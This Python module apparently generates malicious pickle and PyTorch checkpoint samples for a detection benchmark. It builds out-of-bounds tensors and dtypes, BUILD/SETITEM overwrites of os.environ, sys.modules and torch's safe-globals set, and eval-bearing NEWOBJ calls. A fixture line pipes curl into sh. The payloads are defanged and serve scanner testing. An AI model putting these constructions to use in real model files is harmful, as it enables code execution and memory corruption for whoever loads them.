"""Attacks without a function call to point at: a loader's memory, and classes that act when merely made or filled.

Each imports only what ordinary checkpoints import too, or is made by NEWOBJ, BUILD or SETITEM instead of REDUCE.
"""

from __future__ import annotations

import struct
from pickle import dumps
from typing import TYPE_CHECKING, Any

from samples.torch_checkpoint import torch_zip

from bench.detection.assembler import Assembler, Call, Raw, Ref, pickled, string, unicode

if TYPE_CHECKING:
    from collections.abc import Iterator

_PATH = "/nonexistent/picklewatch-bench"
_CODE = "__import__('os').system('true')"
_ORDERED = Call(Ref("collections", "OrderedDict"), ())
_PARTS = "'__imp'+'ort__'"


def special() -> Iterator[tuple[str, str, bytes]]:
    """Name, suffix and content of each."""
    yield from _torch()
    for name, body in {**_numpy(), **_types(), **_classes(), **_states(), **_filled(), **_literals()}.items():
        yield name, ".pkl", pickled(body)


def _push(value: Any) -> bytes:
    return Assembler(lambda _, module, name: unicode(module) + unicode(name) + b"\x93").push(value)


def _new(module: str, name: str, *arguments: Any) -> bytes:
    return _push(Ref(module, name)) + _push(arguments) + b"\x81"


def _build(made: bytes, state: Any) -> bytes:
    return made + _push(state) + b"b"


# --- torch ---


def _storage(elements: int, key: str = "0") -> Raw:
    return Raw(_push(("storage", Ref("torch", "FloatStorage"), key, "cpu", elements)) + b"Q")


def _tensor(elements: int, offset: int, size: tuple[int, ...], stride: tuple[int, ...]) -> Call:
    arguments = (_storage(elements), offset, size, stride, False, _ORDERED)
    return Call(Ref("torch._utils", "_rebuild_tensor_v2"), arguments)


_ARGUMENTS = (_storage(2), 0, (2,), (1,), False, _ORDERED)


def _torch() -> Iterator[tuple[str, str, bytes]]:
    record = {"0": struct.pack("<2f", 1, 2)}
    tensors: dict[str, Any] = {
        "tensor-larger-than-storage": _tensor(2, 0, (1000,), (1,)),
        "tensor-stride-beyond-storage": _tensor(2, 0, (2,), (1 << 20,)),
        "tensor-offset-beyond-storage": _tensor(2, 1 << 20, (1,), (1,)),
        "tensor-negative-offset": _tensor(2, -64, (1,), (1,)),
        "tensor-negative-stride": _tensor(2, 0, (2,), (-64,)),
        "storage-larger-than-record": _tensor(1 << 20, 0, (1 << 20,), (1,)),
        "tensor-v1-larger-than-storage": Call(Ref("torch._utils", "_rebuild_tensor"), (_storage(2), 0, (1000,), (1,))),
        "parameter-larger-than-storage": Call(
            Ref("torch._utils", "_rebuild_parameter"), (_tensor(2, 0, (1000,), (1,)), True, _ORDERED)
        ),
        "setitem-on-a-tensor": Raw(_push(_tensor(2, 0, (2,), (1,))) + b"K\x00K\x01s"),
        "setitems-on-a-tensor": Raw(_push(_tensor(2, 0, (2,), (1,))) + b"(K\x00K\x01u"),
        "append-on-a-tensor": Raw(_push(_tensor(2, 0, (2,), (1,))) + b"K\x01a"),
        "setitem-on-a-storage": Raw(_push(_storage(2)) + b"J\xff\xff\xff\x7fK\x01s"),
        "setitem-on-a-size": Raw(_push(Call(Ref("torch", "Size"), ((1,),))) + b"K\x00K\x01s"),
        "set-on-a-tensor-by-build": Raw(
            _push(_tensor(2, 0, (2,), (1,))) + _push((_storage(2), 1 << 20, (4,), (1,))) + b"b"
        ),
        "set-on-a-tensor-by-a-kept-call": Raw(
            _push(Call(Call(Ref("functools", "partial"), (Ref("torch._utils", "_rebuild_tensor_v2"),)), _ARGUMENTS))
            + _push((_storage(2), 1 << 20, (4,), (1,)))
            + b"b"
        ),
        "set-on-a-tensor-by-a-maker-of-instances": Raw(
            _push(Call(Ref("sklearn.neighbors._kd_tree", "newObj"), (Ref("torch", "Tensor"),)))
            + _push((_storage(2), 1 << 20, (4,), (1,)))
            + b"b"
        ),
        "set-on-a-tensor-by-another-name": Raw(
            _new("torchmetrics.classification.accuracy", "Tensor") + _push((_storage(2), 1 << 20, (4,), (1,))) + b"b"
        ),
        "setitem-on-a-tensor-by-another-name": Raw(
            _new("torchmetrics.classification.accuracy", "Tensor", 4) + b"J\xff\xff\xff\x7fK\x01s"
        ),
        "sparse-index-out-of-bounds": Call(
            Ref("torch._utils", "_rebuild_sparse_tensor"),
            (
                Ref("torch", "sparse_coo"),
                (_tensor(2, 0, (1, 2), (2, 1)), _tensor(2, 0, (2,), (1,)), Call(Ref("torch", "Size"), ((1,),)), True),
            ),
        ),
        "rebuild-from-type-calls": Call(
            Ref("torch._tensor", "_rebuild_from_type_v2"),
            (Ref("torch.hub", "load"), Ref("torch", "Tensor"), ("a/b", "c"), {}),
        ),
    }
    for name, value in tensors.items():
        yield name, ".pt", torch_zip(pickled(_push({"w": value}), 2).replace(b"\x80\x02", b"\x80\x04", 1), record)


# --- numpy ---


def _dtype(kind: str) -> Call:
    return Call(Ref("numpy", "dtype"), (kind, False, True))


def _array(dtype: bytes, shape: tuple[int, ...], content: Any) -> bytes:
    made = Call(Ref("numpy._core.multiarray", "_reconstruct"), (Ref("numpy", "ndarray"), (0,), Raw(string(b"b"))))
    return _push(made) + b"(K\x01" + _push(shape) + dtype + b"\x89" + _push(content) + b"tb"


def _saved_storage(elements: int) -> bytes:
    """As ``torch.save`` wrote it before its archives."""
    before = dumps(0x1950A86A20F9469CFC6C, 2) + dumps(1001, 2) + dumps({}, 2)
    return (
        before
        + pickled(_push(_storage(elements)))
        + dumps(["0"], 2)
        + struct.pack("<Q", elements)
        + bytes(4 * elements)
    )


def _numpy() -> dict[str, bytes]:
    objects = _push(_dtype("V8")) + _push((3, "|", None, ("a",), {"a": (_dtype("O8"), 0)}, 8, 1, 0)) + b"b"
    void = _push(_dtype("V8")) + _push((3, "|", None, None, None, 8, 1, 0)) + b"b"
    memoized = void + b"r\x00\x10\x00\x00"
    return {
        "dtype-hides-objects-in-raw-bytes": _array(objects, (1,), b"A" * 8),
        "array-of-objects-from-bytes": _array(_push(_dtype("O8")), (1,), b"A" * 8),
        "array-shorter-than-its-shape": _array(_push(_dtype("f4")), (1 << 20,), b"A" * 8),
        "tensor-beyond-a-nested-storage": _push(
            Call(
                Ref("torch._utils", "_rebuild_tensor_v2"),
                (
                    Call(Ref("torch.storage", "_load_from_bytes"), (_saved_storage(2),)),
                    1 << 20,
                    (4,),
                    (1,),
                    False,
                    _ORDERED,
                ),
            )
        ),
        "dtype-grown-after-use": b"("
        + _array(memoized, (1,), b"A" * 8)
        + b"j\x00\x10\x00\x00"
        + _push((3, "|", None, None, None, 1 << 20, 1, 0))
        + b"bt",
        "dtype-with-a-field-beyond-itself": _array(
            _push(_dtype("V8")) + _push((3, "|", None, ("a",), {"a": (_dtype("f8"), 4096)}, 8, 1, 0)) + b"b",
            (1,),
            b"A" * 8,
        ),
        "scalar-of-an-object": _push(Call(Ref("numpy._core.multiarray", "scalar"), (_dtype("O8"), b"A" * 8))),
        "scalar-shorter-than-its-type": _push(Call(Ref("numpy._core.multiarray", "scalar"), (_dtype("f8"), b"A"))),
        "as-strided": _push(Call(Ref("numpy.lib.stride_tricks", "as_strided"), ([1], (1 << 20,), (1 << 12,)))),
    }


def _void(*, subtype: Any = None, fields: Any = None, size: int = 8) -> bytes:
    """An element type by BUILD, which numpy believes."""
    return _push(_dtype("V8")) + _push((3, "|", subtype, None if fields is None else ("a",), fields, size, 1, 0)) + b"b"


def _computed(*items: Any) -> Call:
    return Call(Ref("builtins", "tuple"), (list(items),))


def _ordered_dict(items: dict[str, Any]) -> Raw:
    return Raw(_push(_ORDERED) + b"(" + b"".join(_push(key) + _push(value) for key, value in items.items()) + b"u")


def _types() -> dict[str, bytes]:
    """Element types that are not what they say."""
    one: tuple[int, ...] = (1,)
    raw = b"A" * 8
    kinds = {
        "objects-in-an-ordereddict": _void(fields=_ordered_dict({"a": (_dtype("O8"), 0)})),
        "objects-in-a-computed-tuple": _void(fields={"a": _computed(_dtype("O8"), 0)}),
        "field-before-itself": _void(fields={"a": (_dtype("f8"), -8)}),
        "subtype-larger-than-itself": _void(subtype=(_dtype("f8"), (1000,))),
        "negative-size": _void(size=-8),
        "computed-state": _push(_dtype("V8"))
        + _push(_computed(3, "|", None, ("a",), {"a": (_dtype("O8"), 0)}, 8, 1, 0))
        + b"b",
    }
    matrix = Call(Ref("numpy._core.multiarray", "_reconstruct"), (Ref("numpy", "matrix"), (0,), Raw(string(b"b"))))
    kept = Call(Ref("functools", "partial"), (Ref("numpy", "dtype"), "V8", False, True))
    kinds["made-by-a-kept-call"] = (
        _push(Call(kept, ())) + _push((3, "|", None, ("a",), {"a": (_dtype("O8"), 0)}, 8, 1, 0)) + b"b"
    )
    made = {f"dtype-{name}": _array(kind, one, raw) for name, kind in kinds.items()}
    state = _computed(1, one, Raw(kinds["objects-in-an-ordereddict"]), False, raw)
    return made | {"array-subclass-with-a-computed-state": _build(_push(matrix), state)}


# --- states that hide what they set ---


def _states() -> dict[str, bytes]:
    """Attributes that something runs, set by what is as good as a dict."""
    evil = {"_parse_arg_template": "import os\nos.system('true')"}
    pair = next(iter(evil.items()))
    filler = Raw(
        b"}(" + b"".join(_push(f"k{n}") + b"N" for n in range(4200)) + b"u(" + _push(pair[0]) + _push(pair[1]) + b"u"
    )
    states: dict[str, Any] = {
        "plain": evil,
        "ordereddict": _ordered_dict(evil),
        "counter": Call(Ref("collections", "Counter"), (evil,)),
        "dict-call": Call(Ref("builtins", "dict"), ([pair],)),
        "computed-key": Raw(b"}" + _push(Call(Ref("builtins", "str"), (pair[0],))) + _push(pair[1]) + b"s"),
        "many-keys": filler,
        "pairs": [pair],
        "deque": Call(Ref("collections", "deque"), ([pair],)),
        "set": Raw(b"\x8f(" + _push(pair) + b"\x90"),
        "keys-of-a-dict": (dict.fromkeys(pair), ("a", "b")),
        "keys-of-a-dict-in-a-list": [dict.fromkeys(pair)],
        "slots": ({}, evil),
    }
    scipy = _new("scipy.stats._continuous_distns", "norm_gen")
    made = {f"state-scipy-template-{name}": _build(scipy, state) for name, state in states.items()}
    shell = Ref("company_ml_utils", "shell")
    ordered = _push(_ORDERED)
    hooks: dict[str, Any] = {
        "ordereddict": _ordered_dict({"__setstate__": shell}),
        "slots-ordereddict": (None, _ordered_dict({"__setstate__": shell})),
        "computed-key": Raw(b"}" + _push(Call(Ref("builtins", "str"), ("__setstate__",))) + _push(shell) + b"s"),
    }
    made |= {f"state-hook-{name}": _build(_build(ordered, hook), "true") for name, hook in hooks.items()}
    by_call = _push(Call(Ref("optparse", "Values"), ({"__setstate__": shell},)))
    by_item = _new("easydict", "EasyDict") + _push("__setstate__") + _push(shell) + b"s"
    made |= {"state-hook-by-call": _build(by_call, "true"), "state-hook-by-item": _build(by_item, "true")}
    module = _build(_new("torch.nn.modules.linear", "Linear"), {"_buffers": {"append": shell}})
    made["state-hook-among-buffers"] = module + _push("true") + b"a"
    booster = _new("lightgbm.basic", "Booster")
    made["state-handle-ordereddict"] = _build(booster, _ordered_dict({"_handle": 2_000_000_000}))
    made["state-formula-pairs"] = _build(_new("statsmodels.base.data", "PandasData"), [("formula", _CODE)])
    return made


# --- classes that act when made by NEWOBJ, or when BUILD fills them ---


def _classes() -> dict[str, bytes]:
    closer = _build(
        _new("tempfile", "_TemporaryFileCloser"),
        {"name": _PATH, "delete": True, "file": Call(Ref("io", "BytesIO"), ()), "close_called": False},
    )
    return {
        "newobj-memmap-overwrites": _new("numpy", "memmap", _PATH, "uint8", "w+", 0, (1,)),
        "newobj-memmap-core": _new("numpy.core.memmap", "memmap", _PATH, "uint8", "w+", 0, (1,)),
        "newobj-ex-memmap": _push(Ref("numpy._core.memmap", "memmap"))
        + _push((_PATH,))
        + _push({"mode": "w+"})
        + b"\x92",
        "newobj-memmap-of-a-plain-name": _new("numpy", "memmap", "x", "uint8", "w+"),
        "copyreg-newobj-ex-memmap": _push(
            Call(Ref("copyreg", "__newobj_ex__"), (Ref("numpy", "memmap"), ("x",), {"mode": "w+"}))
        ),
        "newobj-sympy-poly": _new("sympy.polys.polytools", "Poly", _CODE),
        "newobj-sympy-tuple": _new("sympy.core.containers", "Tuple", _CODE),
        "newobj-sympy-lambda": _new("sympy.core.function", "Lambda", "x", _CODE),
        "newobj-sympy-interval": _new("sympy.sets.sets", "Interval", _CODE, 1),
        "newobj-sympy-add": _new("sympy.core.add", "Add", _CODE, 1),
        "newobj-sympy-hidden-code": _new("sympy.core.containers", "Tuple", f"getattr(__builtins__,{_PARTS})"),
        "newobj-sympy-function-of-sympy": _new("sympy.core.containers", "Tuple", "preview(x)"),
        "newobj-sympy-computed-text": _new(
            "sympy.core.containers", "Tuple", Call(Ref("builtins", "str"), ("preview(x)",))
        ),
        "unit-memmap": _push(
            Call(Ref("astropy.units.core", "_recreate_irreducible_unit"), (Ref("numpy", "memmap"), "x", False))
        ),
        "unit-of-an-unknown-class": _push(
            Call(Ref("pint", "_unpickle_quantity"), (Ref("company_ml_utils", "Runner"), "true"))
        ),
        "masked-array-memmap": _push(
            Call(Ref("numpy.ma.core", "_mareconstruct"), (Ref("numpy", "memmap"), Ref("numpy", "ndarray"), (0,), "b"))
        ),
        "tree-of-more-outputs-than-classes": _push(
            Call(Ref("sklearn.tree._tree", "Tree"), (4, Raw(_array(_push(_dtype("i8")), (1,), bytes(8))), 1 << 28))
        ),
        "jax-array-by-another-function": _push(
            Call(
                Ref("jax._src.array", "_reconstruct_array"),
                (Ref("company_ml_utils", "run"), ("true",), (1, (0,), _dtype("f4"), False, b""), {}),
            )
        ),
        "build-spatial-tree-outside-itself": _build(
            _new("scipy.spatial._ckdtree", "cKDTree"),
            (struct.pack("<qqdqqqqqq", 0, 2, 0.5, 0, 2, 0, 0, 1 << 20, 1 << 20), [], 2, 1, 5, [], [], [], None, None),
        ),
        "new-index-memmap": _push(
            Call(
                Ref("pandas.core.indexes.base", "_new_Index"), (Ref("numpy", "memmap"), {"filename": "x", "mode": "w+"})
            )
        ),
        "new-index-poly": _push(
            Call(
                Ref("pandas.core.indexes.base", "_new_Index"),
                (Ref("sympy.polys.polytools", "Poly"), {"rep": "preview(x)"}),
            )
        ),
        "lazy-import-by-another-name": _build(
            _push(Call(Ref("optuna.samplers._cmaes", "_LazyImport"), ("antigravity",))), {}
        ),
        "metaclass-by-another-name": _new(
            "lightning.fabric.utilities.load",
            "_TensorMeta",
            "X",
            (Ref("builtins", "object"),),
            {"__hash__": Ref("builtins", "len")},
        ),
        "newobj-type": _new("builtins", "type", "X", (), {"__hash__": Ref("builtins", "len")}),
        "build-diskcache": _build(_new("diskcache.core", "Cache"), (_PATH, 60, Ref("diskcache.core", "Disk"))),
        "build-diskcache-fanout": _build(
            _new("diskcache.fanout", "FanoutCache"), (_PATH, 1, 60, Ref("diskcache.core", "Disk"))
        ),
        "build-temporary-file-closer-deletes": closer,
        "build-temporary-directory": _build(
            _new("tempfile", "TemporaryDirectory"), {"name": _PATH, "_finalizer": None}
        ),
        "build-popen": _build(
            _new("subprocess", "Popen"), {"_child_created": True, "returncode": None, "pid": 999_999_999}
        ),
        "build-file-handler": _build(_new("logging", "FileHandler"), {"baseFilename": _PATH}),
        "build-pool": _build(_new("multiprocessing.pool", "Pool"), {"_state": "RUN"}),
        "build-zipfile": _build(_new("zipfile", "ZipFile"), {"fp": None}),
        "build-shelf": _build(_new("shelve", "Shelf"), {"dict": {}, "writeback": True, "cache": {}}),
        "build-socket": _build(_new("socket", "socket"), {}),
        "newobj-zipimporter": _new("zipimport", "zipimporter", _PATH),
        "newobj-map-of-eval": _new("builtins", "map", Ref("builtins", "eval"), [_CODE]),
        "newobj-function-type": _new("types", "FunctionType", None, {}),
        "newobj-jinja-template": _new("jinja2.environment", "Template", "{{ ''.__class__ }}"),
        "newobj-fileio": _new("io", "FileIO", _PATH),
        "obj-class-of-a-library": b"(" + _push(Ref("joblib.memory", "Memory")) + _push(_PATH) + b"o",
    }


def _filled() -> dict[str, bytes]:
    """BUILD and SETITEM where they do more than fill."""
    ordered = _push(_ORDERED)
    environ = _push(Ref("os", "environ"))
    return {
        "build-on-a-class": _build(_push(Ref("argparse", "Namespace")), (None, {"__eq__": Ref("builtins", "len")})),
        "build-on-torch-module-class": _build(
            _push(Ref("torch.nn.modules.linear", "Linear")), (None, {"forward": Ref("builtins", "print")})
        ),
        "build-on-a-module": _build(_push(Ref("torch", "serialization")), {"load": Ref("builtins", "len")}),
        "build-on-a-function": _build(_push(Ref("torch._utils", "_rebuild_tensor_v2")), (None, {"__code__": None})),
        "build-changes-class": _build(ordered, (None, {"__class__": Ref("collections", "Counter")})),
        "build-setstate-of-a-reference": _build(_build(ordered, {"__setstate__": Ref("builtins", "print")}), "true"),
        "setitem-on-environ": environ + _push("PICKLEWATCH_BENCH") + _push("1") + b"s",
        "setitem-on-sys-modules": _push(Ref("sys", "modules")) + _push("x") + b"Ns",
        "setitem-on-builtins": _push(Ref("os", "__builtins__")) + _push("len") + b"Ns",
        "append-on-sys-path": _push(Ref("sys", "path")) + _push(_PATH) + b"a",
        "appends-on-meta-path": _push(Ref("sys", "meta_path")) + b"(" + _push(_ORDERED) + b"e",
        "setitem-on-dispatch-table": _push(Ref("copyreg", "dispatch_table")) + _push(Ref("builtins", "int")) + b"Ns",
        "additems-on-safe-globals": _push(Ref("torch._weights_only_unpickler", "_marked_safe_globals_set")) + b"(N\x90",
        "build-pandas-expression": _push(
            Call(Ref("pandas.core.computation.expr", "Expr"), ('@pd.io.common.os.system("true")',))
        ),
        "import-that-acts": _push(Ref("antigravity", "webbrowser")),
        "import-of-a-hook": _push(Ref("this", "s")),
        "import-idlelib": _push(Ref("idlelib.idle", "idlelib")),
    }


def _literals() -> dict[str, bytes]:
    """Calls of what ordinary files call too, with arguments that ordinary files never give."""
    ref, call = Ref, Call
    rows: dict[str, Any] = {
        "getattr-walk": call(ref("builtins", "getattr"), (_ORDERED, "__class__")),
        "getattr-globals": call(ref("builtins", "getattr"), (ref("torch._utils", "_rebuild_tensor_v2"), "__globals__")),
        "getattr-of-a-module": call(call(ref("builtins", "getattr"), (ref("torch", "hub"), "load")), ("a/b", "c")),
        "codecs-encode-rot13": call(ref("_codecs", "encode"), ("x", "unknown_codec_module")),
        "codecs-decode": call(ref("_codecs", "decode"), (b"x", "pickle")),
        "reconstructor-with-another-base": call(
            ref("copyreg", "_reconstructor"), (ref("numpy", "memmap"), ref("numpy", "memmap"), _PATH)
        ),
        "import-in-a-string-of-eval-like": call(ref("pandas", "eval"), ("1",)),
        "defaultdict-of-breakpoint": call(ref("collections", "defaultdict"), (ref("builtins", "breakpoint"),)),
        "sorted-by-eval": call(
            ref("builtins", "sorted"),
            ([_CODE],),
        ),
        "load-from-bytes-of-evil": call(
            ref("torch.storage", "_load_from_bytes"), (pickled(_push(call(ref("os", "system"), ("true",)))),)
        ),
        "unpickle-numpy-array": call(ref("sklearn.utils._joblib", "load"), (_PATH,)),
        "path-of-a-class": call(ref("pathlib", "PosixPath.touch"), (call(ref("pathlib", "PosixPath"), (_PATH,)),)),
        "zoneinfo-from-file": call(ref("zoneinfo", "ZoneInfo.from_file"), (_PATH,)),
        "random-seed-file": call(ref("random", "SystemRandom.__reduce__"), (None,)),
        "decimal-context": call(ref("decimal", "setcontext"), (None,)),
        "regex-of-death": call(
            call(ref("builtins", "getattr"), (call(ref("re", "_compile"), ("(a+)+$", 0)), "match")), ("a" * 40 + "b",)
        ),
        "url-in-an-unknown-class": call(ref("some_package.models", "Remote"), ("http://127.0.0.1:9/x",)),
        "shell-in-an-unknown-class": call(ref("some_package.models", "Runner"), ("curl http://127.0.0.1:9/x | sh",)),
    }
    return {name: _push(value) for name, value in rows.items() if name != "sorted-by-eval"}
